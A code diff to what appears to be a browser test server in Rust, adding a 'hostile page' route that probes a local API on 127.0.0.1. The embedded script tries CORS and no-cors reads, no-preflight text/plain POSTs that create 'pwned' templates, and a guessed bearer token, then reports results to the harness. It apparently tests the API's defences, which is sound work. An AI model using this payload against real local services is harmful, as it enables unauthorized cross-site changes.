@@ -130,6 +130,27 @@ impl Site {
     }
 }
 
+/// A hostile page: tries the local API on `?port=` as a page can — a CORS read, no-cors
+/// reads and writes (no preflight), a guessed token — and reports what it got to
+/// `/report/attack`, one line per try.
+const ATTACK_API: &str = r#"<script>
+const api = 'http://127.0.0.1:' + new URLSearchParams(location.search).get('port') + '/v1/templates';
+const body = name => JSON.stringify({name, exit: 'direct'});
+const tries = [
+  () => fetch(api).then(r => r.text().then(t => 'cors-get ' + r.status + ' ' + t), e => 'cors-get blocked'),
+  () => fetch(api, {mode: 'no-cors'}).then(r => r.text().then(t => 'nocors-get ' + r.type + ' ' + r.status + ' [' + t + ']'), e => 'nocors-get blocked'),
+  () => fetch(api, {method: 'POST', mode: 'no-cors', headers: {'Content-Type': 'text/plain'}, body: body('pwned-nocors')})
+    .then(r => 'nocors-post ' + r.type + ' ' + r.status, e => 'nocors-post blocked'),
+  () => fetch(api, {method: 'POST', headers: {'Content-Type': 'application/json', 'Authorization': 'Bearer hf_guess'}, body: body('pwned-cors')})
+    .then(r => 'cors-post ' + r.status, e => 'cors-post blocked'),
+];
+(async () => {
+  const out = [];
+  for (const t of tries) out.push(await t());
+  fetch('/report/attack', {method: 'POST', body: out.join('\n')});
+})();
+</script>"#;
+
 const REPORT_ENV: &str = r#"<script>
 fetch('/report/env', {method: 'POST', body: JSON.stringify({
   tz: Intl.DateTimeFormat().resolvedOptions().timeZone,
@@ -347,6 +368,7 @@ fn serve(
                 "<script>location.href = '/whoami';</script>".to_owned()
             }
             "/env" => REPORT_ENV.to_owned(),
+            "/attack" => ATTACK_API.to_owned(),
             "/ice" => REPORT_ICE.to_owned(),
             "/settings" => SETTINGS.to_owned(),
             "/worker.js" => WORKER.to_owned(),
